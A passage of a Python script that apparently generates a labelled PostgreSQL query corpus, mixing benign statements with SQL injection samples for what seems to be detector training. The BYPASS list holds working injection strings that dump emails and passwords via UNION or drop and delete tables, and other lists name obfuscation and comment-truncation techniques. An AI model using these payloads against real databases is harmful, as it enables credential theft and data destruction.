            "INSERT INTO tunes (title, arranger, tempo_bpm) VALUES %s ON CONFLICT DO NOTHING" % ", ".join("(%s, %s, %d)" % (q(r.choice(["Pan Rising", "Calypso Blue", "Mas' Morning", "Jour Ouvert"])), q(r.choice(PEOPLE)), r.randint(100, 140)) for _ in range(k)),
            "INSERT INTO elver_counts (trap_id, counted_on, elvers) SELECT %d, d::date, 0 FROM generate_series('%s'::date, '%s'::date + %d, '1 day') d" % (r.randint(1, 40), rdate(r), rdate(r), k),
            "INSERT INTO ph_reading (crock_id, ph) SELECT * FROM unnest(ARRAY[%s], ARRAY[%s])" % (ids(r, k, 300), ", ".join("%d.%d" % (r.randint(2, 4), r.randint(0, 9)) for _ in range(k)))])

    @add("cx17_maintenance", "complex_maintenance_admin")
    def _(r):
        tb = r.choice(["bog_beds", "quake_events", "drying_room", "elver_counts", "fronton.quiniela_bets", "harvest_loads", "brews"])
        return r.choice(["VACUUM (ANALYZE, SKIP_LOCKED) %s" % tb, "ANALYZE %s" % tb, "REINDEX TABLE CONCURRENTLY %s" % tb, "CLUSTER %s" % tb,
                         "SELECT relname, n_dead_tup, last_autovacuum FROM pg_stat_user_tables WHERE relname = '%s'" % tb.split(".")[-1],
                         "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % tb, "ALTER TABLE %s SET (autovacuum_vacuum_scale_factor = 0.0%d)" % (tb, r.randint(1, 9)),
                         "SELECT pid, state, wait_event_type FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle'",
                         "SELECT pg_cancel_backend(%d)" % r.randint(1000, 60000), "CHECKPOINT"])

    @add("cx17_transactions", "complex_transactions")
    def _(r):
        return r.choice(["BEGIN ISOLATION LEVEL %s" % r.choice(["SERIALIZABLE", "REPEATABLE READ", "READ COMMITTED"]), "SAVEPOINT sp_%s" % rword(r, 4),
                         "RELEASE SAVEPOINT sp_%s" % rword(r, 4), "ROLLBACK TO SAVEPOINT sp_%s" % rword(r, 4), "SET TRANSACTION READ ONLY",
                         "BEGIN; UPDATE station_queues SET waiting = 0 WHERE station = 'Summit'; COMMIT", "START TRANSACTION READ WRITE",
                         "BEGIN; LOCK TABLE fronton.quiniela_bets IN ROW EXCLUSIVE MODE; UPDATE fronton.quiniela_bets SET settled = true WHERE bet_id = %d; COMMIT" % r.randint(1, 40000),
                         "COMMIT AND NO CHAIN", "PREPARE TRANSACTION 'tx_%s'" % rword(r, 6)])

    @add("cx17_copy", "complex_copy_stdin")
    def _(r):
        return r.choice(["COPY harvest_loads (bed_id, load_date, barrels) FROM STDIN WITH (FORMAT csv, HEADER true)",
                         "COPY elver_counts FROM STDIN WITH (FORMAT text, DELIMITER E'\\t', NULL '\\N')", "COPY (SELECT * FROM quake_events WHERE magnitude >= %d) TO STDOUT WITH (FORMAT csv, HEADER)" % r.randint(3, 8),
                         "COPY tasting_notes FROM STDIN WITH (FORMAT csv, HEADER match, QUOTE '\"', ESCAPE '\\')", "COPY drying_room (room, read_at, humidity) FROM STDIN (FORMAT binary)",
                         "COPY festival_plots TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (team), ENCODING 'UTF8')", "COPY tunes (title, tempo_bpm) FROM STDIN WITH (FORMAT csv, FREEZE false, DEFAULT '\\D')",
                         "COPY %s FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER '%s')" % (r.choice(["bottling_runs", "ice_blocks", "transect_walk", "weir_flows", "corm_plantings"]), r.choice([";", "|", ","])),
                         "COPY %s (id, %s) TO STDOUT WITH (FORMAT csv, HEADER true, NULL '%s')" % (r.choice(["paddles", "combs", "wall_repairs"]), r.choice(["maker", "status", "made_on"]), r.choice(["NA", "", "-"]))])

    @add("cx17_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 99)
        return r.choice(["CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_loads_%d ON harvest_loads (bed_id, load_date DESC)" % n,
                         "ALTER TABLE bog_beds ADD CONSTRAINT bog_beds_acreage_chk_%d CHECK (acreage > 0) NOT VALID" % n,
                         "CREATE TABLE chamber_bookings_%d (chamber int, during tstzrange, EXCLUDE USING gist (chamber WITH =, during WITH &&))" % n,
                         "CREATE MATERIALIZED VIEW IF NOT EXISTS mv_yield_%d AS SELECT bed_id, sum(barrels) FROM harvest_loads GROUP BY bed_id WITH NO DATA" % n,
                         "ALTER TABLE quake_events ALTER COLUMN depth_km TYPE numeric(6,%d)" % r.randint(1, 3), "CREATE SEQUENCE IF NOT EXISTS plot_seq_%d START %d" % (n, r.randint(1, 900)),
                         "CREATE UNIQUE INDEX IF NOT EXISTS uq_flavour_%d ON flavours (lower(code))" % n, "GRANT SELECT ON fronton.matches TO scout_ro_%d" % n])

    @add("cx17_introspection", "complex_orm_introspection")
    def _(r):
        tb = r.choice(["bog_beds", "suites", "crock", "survey_sighting", "tunes", "movements"])
        return r.choice(["SELECT column_name, data_type, is_nullable FROM information_schema.columns WHERE table_schema = 'public' AND table_name = '%s' ORDER BY ordinal_position" % tb,
                         "SELECT a.attname, format_type(a.atttypid, a.atttypmod) FROM pg_attribute a WHERE a.attrelid = '%s'::regclass AND a.attnum > 0 AND NOT a.attisdropped" % tb,
                         "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = '%s'" % tb, "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = '%s'::regclass" % tb])

    @add("cx17_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["SELECT * FROM quake_events WHERE magnitude >= $1 AND region = $2", "UPDATE bog_beds SET flood_ready = $1 WHERE bed_id = $2",
                         "EXECUTE box_by_serial('MB-%d')" % r.randint(1000, 99999), "DELETE FROM ph_reading WHERE crock_id = $1 AND taken_at < $2"])

    @add("cx17_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice(["CREATE OR REPLACE FUNCTION brew_abv(og numeric, fg numeric) RETURNS numeric LANGUAGE sql IMMUTABLE AS $$ SELECT round((og - fg) * 131.25, %d) $$" % r.randint(1, 3),
                         "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'brew_reader') THEN CREATE ROLE brew_reader NOLOGIN; END IF; END $$",
                         "CREATE OR REPLACE FUNCTION touch_updated() RETURNS trigger LANGUAGE plpgsql AS $fn$ BEGIN NEW.updated_at := now(); RETURN NEW; END $fn$",
                         "CREATE OR REPLACE PROCEDURE settle_bets(p_match int) LANGUAGE plpgsql AS $$ BEGIN UPDATE fronton.quiniela_bets SET settled = true WHERE match_id = p_match; COMMIT; END $$"])

    @add("cx17_search", "complex_search_complex")
    def _(r):
        w = r.choice(["frost", "flood", "sprinkler", "rot", "bees"])
        return r.choice(["SELECT note_id, ts_headline('english', body, websearch_to_tsquery('english', '%s -rain')) FROM grower_notes WHERE body_tsv @@ websearch_to_tsquery('english', '%s -rain')" % (w, w),
                         "SELECT id FROM site_note WHERE notes ILIKE '%%%s%%' ORDER BY similarity(notes, '%s') DESC LIMIT 10" % (w, w),
                         "SELECT title FROM tunes WHERE title ~* '\\m%s' ORDER BY title" % w[:3]])
    return G


# ---------------------------------------------------------------- regression-test-style statements (written for this file)
REGRESS_FIXED = [
    ("merge", "MERGE INTO target17 t USING source17 s ON t.tid = s.sid WHEN MATCHED AND t.balance > 100 THEN UPDATE SET balance = t.balance - s.delta WHEN MATCHED THEN DELETE WHEN NOT MATCHED AND s.delta > 0 THEN INSERT VALUES (s.sid, s.delta) WHEN NOT MATCHED THEN DO NOTHING"),
    ("merge", "MERGE INTO target17 t USING (SELECT * FROM source17 WHERE sid < 5) AS s ON t.tid = s.sid WHEN NOT MATCHED THEN INSERT DEFAULT VALUES"),
    ("merge", "MERGE INTO ONLY target17 AS t USING source17 s ON (t.tid = s.sid) WHEN MATCHED THEN UPDATE SET (balance, note) = (s.delta, 'merged')"),
    ("with", "WITH RECURSIVE t17(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t17 WHERE n < 17) SELECT sum(n) FROM t17"),
    ("with", "WITH RECURSIVE tree17(id, path) AS (SELECT id, ARRAY[id] FROM graph17 WHERE parent IS NULL UNION ALL SELECT g.id, t.path || g.id FROM graph17 g JOIN tree17 t ON g.parent = t.id) SEARCH DEPTH FIRST BY id SET ordercol SELECT * FROM tree17 ORDER BY ordercol"),
    ("with", "WITH RECURSIVE tree17(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM tree17 WHERE id < 5) CYCLE id SET is_cycle USING path SELECT * FROM tree17"),
    ("with", "WITH moved AS (DELETE FROM queue17 WHERE done RETURNING *) INSERT INTO archive17 SELECT * FROM moved"),
    ("with", "WITH t AS MATERIALIZED (SELECT random() AS r FROM generate_series(1, 3)) SELECT count(*) FROM t a, t b"),
    ("window", "SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE CURRENT ROW) FROM tenk1 WHERE unique2 < 17"),
    ("window", "SELECT x, last_value(x) OVER (ORDER BY x RANGE BETWEEN 2 PRECEDING AND 2 FOLLOWING EXCLUDE TIES) FROM generate_series(1, 17) x"),
    ("window", "SELECT ntile(3) OVER w, nth_value(x, 2) OVER w FROM generate_series(1, 9) x WINDOW w AS (ORDER BY x ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)"),
    ("aggregates", "SELECT count(*) FILTER (WHERE x % 2 = 0), array_agg(x ORDER BY x DESC) FILTER (WHERE x > 3) FROM generate_series(1, 10) x"),
    ("aggregates", "SELECT percentile_disc(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY x) FROM generate_series(1, 17) x"),
    ("aggregates", "SELECT mode() WITHIN GROUP (ORDER BY v) FROM (VALUES ('a'), ('b'), ('b')) t(v)"),
    ("aggregates", "SELECT bit_xor(x), bool_or(x > 16), every(x > 0) FROM generate_series(1, 17) x"),
    ("limit", "SELECT thousand FROM onek WHERE thousand < 5 ORDER BY thousand FETCH FIRST 2 ROW WITH TIES"),
    ("limit", "SELECT * FROM onek ORDER BY unique1 OFFSET 10 ROWS FETCH NEXT 3 ROWS ONLY"),
    ("rangetypes", "SELECT int4range(1, 10) -|- int4range(10, 20)"), ("rangetypes", "SELECT numrange(1.1, 2.2) &< numrange(3, 4)"),
    ("rangetypes", "SELECT daterange('2017-01-01', '2017-12-31', '[]') @> date '2017-07-17'"), ("rangetypes", "SELECT '[1,17)'::int4range * '[5,25)'::int4range"),
    ("multirangetypes", "SELECT '{[1,3), [5,7)}'::int4multirange @> 6"), ("multirangetypes", "SELECT range_agg(r) FROM (VALUES (int4range(1, 3)), (int4range(2, 8))) t(r)"),
    ("arrays", "SELECT (ARRAY[[1,2],[3,4]])[2][1]"), ("arrays", "SELECT array_fill(17, ARRAY[2, 3], ARRAY[0, 0])"), ("arrays", "SELECT '{1,2,3}'::int[] <@ '{1,2,3,17}'"),
    ("arrays", "SELECT cardinality('{{1,2},{3,4}}'::int[])"), ("arrays", "SELECT (ARRAY[1,2,3,4,5])[2:]"),
    ("jsonb_jsonpath", "SELECT jsonb_path_query('{\"a\": [1, 2, 17]}', 'lax $.a[*] ? (@ >= $min)', '{\"min\": 2}')"),
    ("jsonb_jsonpath", "SELECT jsonb_path_exists('[1, 17]', 'strict $[1] ? (@ == 17)')"), ("jsonb_jsonpath", "SELECT jsonb '{\"a\": 1}' @@ '$.a == 1'"),
    ("jsonb_jsonpath", "SELECT jsonb_path_query('\"2017-03-10\"', '$.datetime(\"YYYY-MM-DD\")')"), ("jsonb", "SELECT '{\"a\": {\"b\": 17}}'::jsonb #> '{a,b}'"),
    ("jsonb", "SELECT jsonb_insert('{\"a\": [0, 1]}', '{a, 1}', '\"new\"', true)"), ("jsonb", "SELECT '{\"a\": 1, \"b\": 2}'::jsonb - 'a'"),
    ("tsearch", "SELECT to_tsvector('english', 'The quick brown foxes') @@ to_tsquery('english', 'fox & !dog')"),
    ("tsearch", "SELECT ts_headline('english', 'seventeen little fireflies flashing', to_tsquery('english', 'firefly'), 'StartSel=<b>, StopSel=</b>')"),
    ("tsearch", "SELECT setweight(to_tsvector('simple', 'bog beds'), 'A') || to_tsvector('simple', 'frost')"), ("tsearch", "SELECT 'a:1 b:2'::tsvector @@ 'a <-> b'::tsquery"),
    ("tablesample", "SELECT count(*) FROM tenk1 TABLESAMPLE BERNOULLI (17) REPEATABLE (0)"), ("tablesample", "SELECT id FROM test_tablesample TABLESAMPLE SYSTEM (50) REPEATABLE (17)"),
    ("constraints", "CREATE TABLE circles17 (c1 circle, c2 text, EXCLUDE USING gist (c1 WITH &&, (c2::circle) WITH &&) WHERE (circle_center(c1) <> '(0,0)'))"),
    ("constraints", "ALTER TABLE unique_tbl17 ADD CONSTRAINT u17 UNIQUE NULLS NOT DISTINCT (i)"), ("constraints", "CREATE TABLE deferred17 (i int PRIMARY KEY DEFERRABLE INITIALLY DEFERRED)"),
    ("prepare", "PREPARE q17(int, text) AS SELECT * FROM tenk1 WHERE unique1 = $1 AND stringu1 = $2"), ("prepare", "EXECUTE q17(17, 'AAAAAA')"), ("prepare", "DEALLOCATE q17"),
    ("prepare", "SELECT name, statement, parameter_types FROM pg_prepared_statements ORDER BY name"),
    ("transactions", "BEGIN; SAVEPOINT one; INSERT INTO xacttest17 VALUES (17, 'x'); ROLLBACK TO SAVEPOINT one; RELEASE SAVEPOINT one; COMMIT"),
    ("transactions", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE"), ("transactions", "BEGIN TRANSACTION ISOLATION LEVEL REPEATABLE READ; SELECT 1; COMMIT AND CHAIN; COMMIT"),
    ("lock", "LOCK TABLE lock_tbl17 IN SHARE UPDATE EXCLUSIVE MODE NOWAIT"), ("lock", "LOCK lock_tbl17, lock_tbl17b IN ACCESS SHARE MODE"), ("lock", "LOCK TABLE ONLY lock_tbl17 IN ROW SHARE MODE"),
    ("vacuum", "VACUUM (PARALLEL 2, INDEX_CLEANUP off) vac17"), ("vacuum", "VACUUM (PROCESS_TOAST false) vac17"), ("vacuum", "ANALYZE (SKIP_LOCKED) vac17 (a, b)"),
    ("create_index", "CREATE INDEX CONCURRENTLY concur17 ON tbl17 (f1) INCLUDE (f2) WHERE f1 > 17"), ("create_index", "REINDEX (VERBOSE) INDEX CONCURRENTLY concur17"),
    ("create_index", "CREATE INDEX gin17 ON array_index_op_test17 USING gin (i) WITH (fastupdate = off)"),
    ("privileges", "GRANT SELECT (col1), UPDATE (col2) ON atest17 TO regress_priv_user17"), ("privileges", "REVOKE ALL PRIVILEGES ON FUNCTION priv17(int) FROM PUBLIC"),
    ("privileges", "ALTER DEFAULT PRIVILEGES FOR ROLE regress_priv_user17 REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC"), ("privileges", "SELECT has_column_privilege('atest17', 'col1', 'SELECT')"),
    ("comments", "COMMENT ON TABLE comment_test17 IS 'seventeen'"), ("comments", "COMMENT ON INDEX comment_test17_idx IS NULL"), ("comments", "COMMENT ON COLUMN comment_test17.id IS $$it's the key$$"),
    ("async", "LISTEN notify_async17"), ("async", "NOTIFY notify_async17, 'sample message 17'"), ("async", "SELECT pg_notification_queue_usage()"), ("async", "UNLISTEN *"),
    ("copy2", "COPY x17 (a, b, c) FROM STDIN WITH (FORMAT csv, HEADER MATCH, FORCE_NOT_NULL (b))"), ("copy2", "COPY x17 TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *)"),
    ("copy2", "COPY x17 FROM STDIN WHERE a > 17"), ("copy2", "COPY (SELECT * FROM x17 ORDER BY a) TO STDOUT (DELIMITER '|')"),
    ("guc", "SET search_path TO public, pg_temp"), ("guc", "SET LOCAL application_name = 'regress17'"), ("guc", "SET SESSION datestyle TO 'ISO, DMY'"),
    ("guc", "SELECT set_config('search_path', 'public', true)"), ("guc", "RESET ALL"), ("guc", "SHOW standard_conforming_strings"),
    ("strings", "SELECT U&'d\\0061t\\+000061' AS u"), ("strings", "SELECT U&'d!0061t!+000061' UESCAPE '!' AS u"), ("strings", "SELECT E'\\x41\\102\\u0043'"),
    ("strings", "SELECT $tag$nested $$ dollar$tag$"), ("strings", "SELECT 'seven'\n'teen'"), ("strings", "SELECT B'1010' # B'0110'"),
    ("strings", "SELECT convert_from(decode('c3a9', 'hex'), 'UTF8')"), ("strings", "SELECT chr(65) || chr(66) || chr(67)"),
    ("lateral", "SELECT * FROM int4_tbl i, LATERAL (SELECT i.f1 + 1 AS x) ss"), ("lateral", "SELECT * FROM int8_tbl a LEFT JOIN LATERAL (SELECT b.q1 FROM int8_tbl b WHERE b.q2 = a.q1 LIMIT 1) s ON true"),
    ("returning", "UPDATE foo17 SET f2 = lower(f2) WHERE f1 = 17 RETURNING *, f1 + 1 AS f1p"), ("returning", "DELETE FROM foo17 USING bar17 WHERE foo17.f1 = bar17.f1 RETURNING foo17.*"),
    ("insert_conflict", "INSERT INTO insertconflicttest17 VALUES (17, 'Fig') ON CONFLICT (key) DO UPDATE SET fruit = excluded.fruit WHERE insertconflicttest17.fruit <> 'Lime' RETURNING *"),
    ("insert_conflict", "INSERT INTO insertconflicttest17 AS ict VALUES (1, 'Apple') ON CONFLICT (key) WHERE fruit LIKE '%a%' DO NOTHING"),
    ("domain", "CREATE DOMAIN posint17 AS int CHECK (VALUE > 0) NOT NULL"), ("enum", "ALTER TYPE rainbow17 ADD VALUE IF NOT EXISTS 'ultraviolet' AFTER 'violet'"),
    ("generated", "CREATE TABLE gtest17 (a int, b int GENERATED ALWAYS AS (a * 17) STORED)"), ("identity", "CREATE TABLE itest17 (a int GENERATED BY DEFAULT AS IDENTITY (START WITH 17 INCREMENT BY 17), b text)"),
]


def regress_rows(r):
    out, add = regress_list("regress17", REGRESS_FIXED)
    for _ in range(40):
        a, b = r.randint(-99, 99), r.randint(1, 170)
        add("int8", r.choice(["SELECT %d::int8 * %d::int8" % (a, b), "SELECT int8 '%d' / %d" % (a * 1000003, b), "SELECT (-%d)::int8 %% %d" % (b, abs(a) + 1),
                               "SELECT %d::int2 << %d" % (a, b % 15), "SELECT abs(%d::int8), sign(%d::int8)" % (a, a), "SELECT %d::int4 # %d" % (a, b),
                               "SELECT generate_series(%d::int8, %d::int8, %d)" % (a, a + b, max(1, b // 17))]))
    for _ in range(40):
        a, b = r.randint(1, 500), r.randint(1, 60)
        add("rangefuncs", r.choice(["SELECT * FROM generate_series(1, %d) WITH ORDINALITY AS g(v, o) WHERE o %% %d = 0" % (a, b + 1),
                                    "SELECT * FROM ROWS FROM (generate_series(1, %d), generate_series(1, %d)) AS t(x, y)" % (b, b + 2),
                                    "SELECT * FROM unnest(ARRAY[%d, %d], ARRAY['a', 'b']) AS u(n, s)" % (a, b),
                                    "SELECT * FROM generate_subscripts(ARRAY[%s], 1) AS s" % ids(r, r.randint(2, 5), 99),
                                    "SELECT * FROM generate_series(timestamp '2017-01-01', timestamp '2017-01-%02d', interval '%d hours') LIMIT 3" % (r.randint(2, 28), r.randint(1, 48))]))
    for _ in range(40):
        d = rdate(r, 1990, 2030)
        add("horology", r.choice(["SELECT date '%s' + interval '%d days'" % (d, r.randint(1, 400)), "SELECT extract(isodow FROM date '%s')" % d,
                                  "SELECT age(timestamp '%s 10:00', timestamp '1970-01-01')" % d, "SELECT to_char(timestamp '%s 17:17:17', 'HH12:MI AM Dy DD Mon YYYY')" % d,
                                  "SELECT timestamptz '%s 12:00+00' AT TIME ZONE 'America/%s'" % (d, r.choice(["New_York", "Denver", "Anchorage", "Sao_Paulo"])),
                                  "SELECT justify_interval(interval '%d hours %d days')" % (r.randint(1, 900), r.randint(1, 90)),
                                  "SELECT date_part('epoch', interval '%d minutes')" % r.randint(1, 10000), "SELECT make_date(%s)" % d.replace("-0", "-").replace("-", ", ")]))
    for _ in range(35):
        a = r.randint(0, 9999)
        add("numeric", r.choice(["SELECT round(%d.%04d, %d)" % (a, r.randint(0, 9999), r.randint(0, 3)), "SELECT trunc(-%d.5678, 2)" % a,
                                 "SELECT %d::numeric(10,3) / 17" % a, "SELECT 'NaN'::numeric + %d" % a, "SELECT factorial(%d)" % r.randint(0, 20),
                                 "SELECT power(%d::numeric, 0.5)" % a, "SELECT scale(%d.%s)" % (a, "0" * r.randint(1, 6)), "SELECT min_scale(%d.%d00)" % (a, r.randint(1, 9)),
                                 "SELECT width_bucket(%d, ARRAY[0, 100, 1000, 5000])" % a, "SELECT 'Infinity'::float8 > %d" % a]))
    for _ in range(35):
        w = rword(r, r.randint(3, 9))
        add("strings", r.choice(["SELECT overlay('%s' PLACING 'XX' FROM %d FOR 2)" % (w, r.randint(1, 3)), "SELECT split_part('%s.%s', '.', 2)" % (w, w[::-1]),
                                 "SELECT repeat('%s', %d)" % (w[:2], r.randint(1, 5)), "SELECT '%s' SIMILAR TO '%%(%s|z)%%'" % (w, w[1:3]),
                                 "SELECT regexp_replace('%s', '[aeiou]', '_', 'g')" % w, "SELECT quote_ident('%s %s')" % (w, w), "SELECT initcap('%s %s')" % (w, w[::-1]),
                                 "SELECT normalize(U&'%s\\0301', NFC)" % w, "SELECT starts_with('%s', '%s')" % (w, w[:2]), "SELECT '%s' ^@ '%s'" % (w, w[0]),
                                 "SELECT substring('%s' similar '%%#\"%s#\"%%' escape '#')" % (w, w[1:3]), "SELECT left('%s', -%d)" % (w, r.randint(1, 3))]))
    for _ in range(30):
        n = r.randint(1, 99)
        add("create_table", r.choice(["CREATE TABLE part17_%d PARTITION OF parted17 FOR VALUES IN (%d, %d)" % (n, n, n + 100),
                                      "CREATE TEMP TABLE temp17_%d (a int, b text COLLATE \"C\") ON COMMIT DROP" % n,
                                      "CREATE UNLOGGED TABLE unlogged17_%d (id int PRIMARY KEY) WITH (fillfactor = %d)" % (n, r.randint(50, 100)),
                                      "CREATE TABLE like17_%d (LIKE inhx17 INCLUDING DEFAULTS INCLUDING CONSTRAINTS)" % n,
                                      "ALTER TABLE alter17_%d ALTER COLUMN b SET STATISTICS %d" % (n, r.randint(10, 1000)),
                                      "CREATE TABLE hash17_%d PARTITION OF hpart17 FOR VALUES WITH (MODULUS %d, REMAINDER %d)" % (n, 4, n % 4)]))
    for _ in range(30):
        a = r.randint(1, 99)
        add("select", r.choice(["SELECT DISTINCT ON (four) four, ten FROM tenk1 WHERE unique2 < %d ORDER BY four, ten DESC" % a,
                                "SELECT * FROM onek WHERE unique1 < %d ORDER BY unique1 USING >" % a,
                                "SELECT count(*) FROM tenk1 GROUP BY GROUPING SETS ((four), (ten), ()) HAVING count(*) > %d" % a,
                                "SELECT * FROM (VALUES (1, 'one'), (%d, 'x')) AS v(n, s) WHERE n IS NOT DISTINCT FROM %d" % (a, a),
                                "SELECT ten, sum(unique1) FROM tenk1 GROUP BY ROLLUP (ten) ORDER BY ten NULLS FIRST LIMIT %d" % a,
                                "TABLE onek ORDER BY unique1 LIMIT %d" % a, "SELECT onek.unique1 FROM onek WHERE onek.unique1 %% %d = 0 FOR UPDATE SKIP LOCKED" % (a + 1)]))
    for _ in range(25):
        a = r.randint(1, 255)
        add("inet", r.choice(["SELECT inet '10.%d.0.1/16' & inet '255.255.0.0'" % a, "SELECT broadcast(inet '192.168.%d.0/24')" % a,
                              "SELECT set_masklen(cidr '10.%d.0.0/16', 8)" % a, "SELECT inet_merge(inet '192.0.2.%d', inet '198.51.100.1')" % a,
                              "SELECT macaddr8 '08:00:2b:01:02:03:04:%02x'" % a, "SELECT inet '::ffff:%d.0.0.1' << inet '::ffff:0.0.0.0/96'" % a]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "dollar_quote", "e_escape", "sqlmap", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "duration": "input_formatted", "count": "input_numeric_string",
               "tsq": "input_formatted", "jpath": "input_formatted", "jkey": "input_plain", "json": "input_json_text", "email": "input_url_email",
               "appname": "input_formatted", "delim": "input_punctuation", "regex": "input_formatted", "cidr": "input_formatted", "pit": "input_formatted",
               "nullstr": "input_punctuation", "schema": "input_identifier"}
TRUNC_STYLES = [("dashdash_dashdash", "-- --"), ("dashdash_semicolon_dashdash", "--;--"), ("empty_block_then_dashdash", "/**/--"), ("dashdash_quote", "--'"),
                ("dashdash_dquote", "--\""), ("dashdash_hash", "--#"), ("dashdash_percent", "--%"), ("dashdash_amp", "--&"), ("dashdash_tilde", "--~"),
                ("dashdash_caret", "--^"), ("dashdash_pipe", "--|"), ("dashdash_at", "--@"), ("dashdash_dot", "--."), ("dashdash_tab_dashdash", "--\t--"),
                ("dashdash_cr", "--\r"), ("bang_block_then_dashdash", "/*!*/--"), ("open_block_star", "/**"), ("dashdash_lowercase_word", None)]
BYPASS = [("addslashes_into_standard_string", "t17_pony_hides", "a", "tarred calico' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t17_dapper_cable_inspect", "d", "\\'); DELETE FROM cable_inspections WHERE true; -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t17_dbal_plots", "b", "x' UNION SELECT email, password, NULL FROM wall_clients -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t17_ci_theme_update", "a", "Atlantis', winner = true -- ", addslashes),
          ("doubling_into_e_string", "t17_pgadmin_column_comment", "a", "\\'; DROP TABLE fronton.matches; -- ", double_quotes),
          ("addslashes_into_standard_string", "t17_rdbi_elver_counts", "a", "Severn' OR 1=1 -- ", addslashes)]


def truncation_style(r):
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 6))


TRUNCATION = {"style": truncation_style, "origs": ["root", "", "operator", "1"], "spaces": ["", " ", "  ", "\t", "\n"]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 60)), "%d.%d" % (r.randint(0, 500), r.randint(0, 99)), str(r.randint(10 ** 5, 10 ** 7)),
                     "0", "-%d" % r.randint(1, 90), "%d.50" % r.randint(1, 40), "%de%d" % (r.randint(1, 9), r.randint(1, 3)), "0.%03d" % r.randint(1, 999)])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count, an offset or an id goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or si["subscript"] or si["frame"] or si["clause"] in ("TABLESAMPLE", "REPEATABLE") or tpl[0] in (
        "t17_diesel_aftershocks", "t17_liquibase_brin_index", "t17_objection_block_rows", "t17_pgadmin_bet_edit")
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["BED-%03d/%s" % (r.randint(1, 400), r.choice("NSEW")), "SEC-%d.%d" % (r.randint(1, 90), r.randint(1, 9)), "%d.%d mm" % (r.randint(0, 9), r.randint(0, 99)),
                     "M%d.%d" % (r.randint(2, 8), r.randint(0, 9)), "%02d:%02d:%02d" % (r.randint(0, 23), r.randint(0, 59), r.randint(0, 59)),
                     "pH %d.%d" % (r.randint(2, 5), r.randint(0, 9)), "%d°C" % r.randint(-30, 40), "#%d-%s" % (r.randint(1, 999), rword(r, 2, upper=True))])


def input_value(r, fam, groups):
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.45:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " , "], 50000, 6, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f17-%06d", "seventeenth")


if __name__ == "__main__":
    main()
